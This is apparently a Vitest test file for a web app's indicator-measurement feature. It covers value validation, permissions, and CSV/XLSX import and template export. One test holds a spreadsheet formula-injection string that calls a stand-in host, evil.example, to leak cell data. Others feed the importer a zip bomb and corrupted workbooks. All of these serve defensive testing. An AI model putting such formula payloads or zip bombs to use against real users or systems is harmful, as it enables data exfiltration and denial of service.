import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { describe, expect, it } from 'vitest'
import { addMember, createPlan, createUser } from '#tests/factories/index.ts'
import * as MeasurementRepository from '#db/repositories/measurements.ts'
import * as ItemRepository from '#db/repositories/worksheet-items.ts'
import { args, call, createUserWithSession, makeRequest, sessionCookieFor } from '#tests/utils.ts'
import { xlsxOf, zipBombXlsx } from '#tests/spreadsheets.ts'
import { MAX_IMPORT_BYTES } from '../monitoring/import.server.ts'
import { getDb } from '../utils/db.server.ts'
import { loader as healthz } from './healthz.ts'
import { loader as templateLoader } from './plans.$planId.monitoring.template.ts'
import { action, loader } from './plans.$planId.monitoring.tsx'

// Each upload starts a parsing worker, which takes seconds on a busy two-core machine.
const WORKERS_TIMEOUT = 180_000

const db = getDb()

async function setup() {
  const { user: lead, cookie } = await createUserWithSession(db)
  const plan = await createPlan(db, lead.id)
  const indicator = (data: Record<string, unknown>) =>
    ItemRepository.insert(db, { planId: plan.id, kind: 'indicator', refPrefix: 'K', data, actorId: lead.id })
  const k1 = await indicator({
    name: 'Compliance rate',
    indicatorType: 'compliance',
    unit: 'percent',
    baselineValue: 38,
    baselineDate: '2025-11-30',
    targetValue: 60,
    targetDate: '2027-12-31',
  })
  const k2 = await indicator({
    name: 'Workers reached',
    indicatorType: 'output',
    unit: 'count',
    baselineValue: 0,
    targetValue: 8000,
    countsWorkersReached: true,
  })
  return { plan, lead, cookie, k1, k2 }
}

const post = (planId: string, cookie: string, form: Record<string, string>) =>
  call(() => action(args(makeRequest(`/plans/${planId}/monitoring`, { cookie, form }), { planId })))

function upload(planId: string, cookie: string, file: File) {
  const body = new FormData()
  body.set('intent', 'import:preview')
  body.set('file', file)
  return call(() =>
    action(
      args(
        new Request(`http://localhost/plans/${planId}/monitoring`, {
          method: 'POST',
          body,
          headers: { Cookie: cookie },
        }),
        { planId },
      ),
    ),
  )
}

describe('recording measurements', () => {
  it('records a value and shows it with the indicator', async () => {
    const { plan, cookie, k1 } = await setup()
    const res = await post(plan.id, cookie, {
      intent: 'measurement:add',
      indicatorId: k1.id,
      period: '2026-q2',
      value: '41',
      note: 'Survey',
    })
    expect(res.status).toBe(200)
    const page = await call(() =>
      loader(args(makeRequest(`/plans/${plan.id}/monitoring`, { cookie }), { planId: plan.id })),
    )
    expect(page.data.measurements).toMatchObject([
      { indicator_id: k1.id, period: '2026-Q2', period_end: '2026-06-30', value: 41, note: 'Survey' },
    ])
  })

  it('checks values against the unit, the period format and duplicates', async () => {
    const { plan, cookie, k1, k2 } = await setup()
    const bad = await post(plan.id, cookie, {
      intent: 'measurement:add',
      indicatorId: k1.id,
      period: '2026-Q2',
      value: '120',
    })
    expect(bad.status).toBe(400)
    expect(bad.data.result.error.value).toEqual(['monitoring.errors.percent'])
    expect(
      (await post(plan.id, cookie, { intent: 'measurement:add', indicatorId: k2.id, period: '2026-Q2', value: '3.5' }))
        .data.result.error.value,
    ).toEqual(['monitoring.errors.count'])
    expect(
      (await post(plan.id, cookie, { intent: 'measurement:add', indicatorId: k1.id, period: 'Q7', value: '40' })).data
        .result.error.period,
    ).toEqual(['monitoring.errors.period'])
    expect(
      (await post(plan.id, cookie, { intent: 'measurement:add', indicatorId: k1.id, period: '2026-Q2', value: 'lots' }))
        .status,
    ).toBe(400)
    await post(plan.id, cookie, { intent: 'measurement:add', indicatorId: k1.id, period: '2026-Q2', value: '40' })
    expect(
      (await post(plan.id, cookie, { intent: 'measurement:add', indicatorId: k1.id, period: '2026-q2', value: '42' }))
        .data.result.error.period,
    ).toEqual(['monitoring.errors.alreadyRecorded'])
    expect(await MeasurementRepository.findByPlan(db, plan.id)).toHaveLength(1)
  })

  it('refuses values outside the realistic range, and NaN and infinities', async () => {
    const { plan, cookie, k1, k2 } = await setup()
    const k3 = await ItemRepository.insert(db, {
      planId: plan.id,
      kind: 'indicator',
      refPrefix: 'K',
      data: { name: 'Change', indicatorType: 'outcome', unit: 'other' },
      actorId: (
        await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', plan.id).executeTakeFirstOrThrow()
      ).user_id,
    })
    const add = (indicatorId: string, value: string, period = '2026-Q2') =>
      post(plan.id, cookie, { intent: 'measurement:add', indicatorId, period, value })
    for (const value of ['1.7976931348623157e308', '1e308', '-1e13', 'Infinity', '-Infinity', 'NaN']) {
      const res = await add(k3.id, value)
      expect(res.status).toBe(400)
      expect(res.data.result.error.value).toHaveLength(1)
    }
    expect((await add(k2.id, '20000000000')).data.result.error.value).toEqual(['monitoring.errors.tooBig|10000000000'])
    expect((await add(k3.id, '-3')).status).toBe(200)
    expect((await add(k3.id, '1e12', '2026-Q3')).status).toBe(200)
    expect((await add(k1.id, '100')).status).toBe(200)
    const csv = 'indicator,period,value\nK3,2027,1.7976931348623157e308\nK2,2027,2e10\nK1,2027,55\n'
    const preview = await upload(plan.id, cookie, new File([csv], 'v.csv', { type: 'text/csv' }))
    expect(preview.data.preview.rows.map((r: { errors: string[] }) => r.errors)).toEqual([
      ['monitoring.errors.outOfRange|1000000000000'],
      ['monitoring.errors.tooBig|10000000000'],
      [],
    ])
    expect((await MeasurementRepository.findByPlan(db, plan.id)).map((m) => m.value).sort((a, b) => a - b)).toEqual([
      -3, 100, 1e12,
    ])
  })

  it('refuses an indicator of another plan', async () => {
    const a = await setup()
    const b = await setup()
    const res = await post(b.plan.id, b.cookie, {
      intent: 'measurement:add',
      indicatorId: a.k1.id,
      period: '2026-Q2',
      value: '40',
    })
    expect(res.status).toBe(400)
    expect(await MeasurementRepository.findByPlan(db, a.plan.id)).toHaveLength(0)
  })

  it('lets only editors record, and nobody outside the plan read', async () => {
    const { plan, lead, k1 } = await setup()
    const contributor = await createUser(db)
    await addMember(db, plan.id, contributor.id, 'contributor', lead.id)
    const res = await post(plan.id, await sessionCookieFor(contributor.id), {
      intent: 'measurement:add',
      indicatorId: k1.id,
      period: '2026-Q2',
      value: '40',
    })
    expect(res.status).toBe(403)
    const { cookie: stranger } = await createUserWithSession(db)
    expect(
      (
        await call(() =>
          loader(args(makeRequest(`/plans/${plan.id}/monitoring`, { cookie: stranger }), { planId: plan.id })),
        )
      ).status,
    ).toBe(404)
  })
})

describe('importing measurements', () => {
  it('previews a CSV with row errors and saves nothing', async () => {
    const { plan, cookie } = await setup()
    const csv =
      'indicator;period;value;note\nK1;2026-Q2;41,5;ok\nK1;2026-Q3;140;too high\nK9;2026-Q2;1;\nK2;2026-Q2;120;\nK2;2026-Q2;130;dup\n'
    const res = await upload(plan.id, cookie, new File([csv], 'values.csv', { type: 'text/csv' }))
    expect(res.status).toBe(200)
    expect(res.data.preview.rows.map((r: { errors: string[] }) => r.errors)).toEqual([
      [],
      ['monitoring.errors.percent'],
      ['monitoring.errors.unknownIndicator'],
      [],
      ['monitoring.errors.duplicateInFile'],
    ])
    expect(await MeasurementRepository.findByPlan(db, plan.id)).toHaveLength(0)
  })

  it('imports an XLSX file after preview, all rows at once', async () => {
    const { plan, cookie } = await setup()
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('m')
    sheet.addRow(['indicator', 'period', 'value', 'note', 'evidence_source'])
    sheet.addRow(['K1', '2026-Q2', 41, 'Survey', 'Union'])
    sheet.addRow(['K2', '2026-Q2', 3100, '', 'Radio logs'])
    const file = new File([await workbook.xlsx.writeBuffer()], 'values.xlsx')
    const preview = await upload(plan.id, cookie, file)
    expect(preview.data.preview.rows.every((r: { errors: string[] }) => r.errors.length === 0)).toBe(true)
    const commit = await post(plan.id, cookie, {
      intent: 'import:commit',
      rows: JSON.stringify(preview.data.preview.rows),
    })
    expect(commit.data.result).toMatchObject({ status: 'success', imported: 2 })
    expect((await MeasurementRepository.findByPlan(db, plan.id)).map((m) => m.value).sort()).toEqual([3100, 41])
  })

  it('re-checks rows on saving, so a tampered or outdated preview saves nothing', async () => {
    const { plan, cookie } = await setup()
    const rows = [
      { line: 2, indicator: 'K1', period: '2026-Q2', value: '41', note: '', evidenceSource: '', errors: [] },
      { line: 3, indicator: 'K1', period: '2026-Q3', value: '900', note: '', evidenceSource: '', errors: [] },
    ]
    const res = await post(plan.id, cookie, { intent: 'import:commit', rows: JSON.stringify(rows) })
    expect(res.status).toBe(400)
    expect(await MeasurementRepository.findByPlan(db, plan.id)).toHaveLength(0)
    expect((await post(plan.id, cookie, { intent: 'import:commit', rows: '{not json' })).status).toBe(400)
  })

  it(
    'refuses wrong columns, other file types and files over the size cap',
    async () => {
      const { plan, cookie } = await setup()
      expect(
        (await upload(plan.id, cookie, new File(['ref,when,amount\nK1,2026,3\n'], 'x.csv', { type: 'text/csv' }))).data
          .result.error[''],
      ).toEqual(['monitoring.import.wrongColumns'])
      expect((await upload(plan.id, cookie, new File(['hello'], 'x.pdf'))).data.result.error['']).toEqual([
        'monitoring.import.wrongType',
      ])
      const huge = new File(['indicator,period,value\n' + 'K1,2026-Q2,41\n'.repeat(200_000)], 'huge.csv', {
        type: 'text/csv',
      })
      const res = await upload(plan.id, cookie, huge)
      expect([400, 413]).toContain(res.status)
      expect(res.data.result.error['']).toEqual(['monitoring.import.tooLarge'])
      const many = new File(
        [
          'indicator,period,value\n' +
            Array.from({ length: 2001 }, (_, i) => `K1,2026-${String((i % 12) + 1).padStart(2, '0')},1`).join('\n'),
        ],
        'many.csv',
        { type: 'text/csv' },
      )
      expect((await upload(plan.id, cookie, many)).data.result.error['']).toEqual(['monitoring.import.tooManyRows'])
    },
    WORKERS_TIMEOUT,
  )

  it('offers a template naming the plan’s indicators', async () => {
    const { plan, cookie } = await setup()
    const csv = await call(() =>
      templateLoader(
        args(makeRequest(`/plans/${plan.id}/monitoring/template?format=csv`, { cookie }), { planId: plan.id }),
      ),
    )
    expect(csv.data).toContain('indicator,period,value,note,evidence_source')
    expect(csv.data).toContain('K1,')
    const xlsx = await templateLoader(
      args(makeRequest(`/plans/${plan.id}/monitoring/template?format=xlsx`, { cookie }), { planId: plan.id }),
    )
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await xlsx.arrayBuffer())
    expect(workbook.getWorksheet('indicators')!.getRow(2).getCell(1).value).toBe('K1')
  })

  it('writes indicator names that look like formulas into the XLSX template as text', async () => {
    const { plan, lead, cookie } = await setup()
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    await ItemRepository.insert(db, {
      planId: plan.id,
      kind: 'indicator',
      refPrefix: 'K',
      data: { name: evil, indicatorType: 'output', unit: 'other' },
      actorId: lead.id,
    })
    const xlsx = await templateLoader(
      args(makeRequest(`/plans/${plan.id}/monitoring/template?format=xlsx`, { cookie }), { planId: plan.id }),
    )
    const bytes = await xlsx.arrayBuffer()
    const zip = await JSZip.loadAsync(bytes)
    const sheets = Object.keys(zip.files).filter((name) => name.startsWith('xl/worksheets/sheet'))
    expect(sheets.length).toBe(2)
    for (const name of sheets) expect(await zip.file(name)!.async('string')).not.toContain('<f>')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes)
    const cell = workbook.getWorksheet('indicators')!.getRow(4).getCell(2)
    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.value).toBe(evil)
    expect(cell.numFmt).toBe('@')
  })

  it('refuses an XLSX zip bomb with a 400 while /healthz keeps answering', async () => {
    const { plan, cookie } = await setup()
    const bomb = await zipBombXlsx(1_000_000)
    expect(bomb.length).toBeLessThan(MAX_IMPORT_BYTES)
    const finished: string[] = []
    const importing = upload(plan.id, cookie, new File([bomb], 'bomb.xlsx')).then((res) => {
      finished.push('import')
      return res
    })
    const health = await healthz()
    finished.push('healthz')
    const res = await importing
    expect(health.status).toBe(200)
    expect(finished).toEqual(['healthz', 'import'])
    expect(res.status).toBe(400)
    expect(res.data.result.error['']).toEqual(['monitoring.import.tooLargeUnpacked'])
    expect(await MeasurementRepository.findByPlan(db, plan.id)).toHaveLength(0)
  })

  it(
    'answers truncated and garbage workbooks with a 400, not a 500',
    async () => {
      const { plan, cookie } = await setup()
      const good = await xlsxOf([
        ['indicator', 'period', 'value'],
        ['K1', '2026-Q2', 41],
      ])
      for (const bytes of [
        good.subarray(0, good.length - 100),
        Buffer.from('PK\x03\x04garbage'),
        Buffer.alloc(5000, 0xff),
      ]) {
        const res = await upload(plan.id, cookie, new File([bytes], 'broken.xlsx'))
        expect(res.status).toBe(400)
        expect(res.data.result.error['']).toEqual(['monitoring.import.unreadable'])
      }
    },
    WORKERS_TIMEOUT,
  )
})
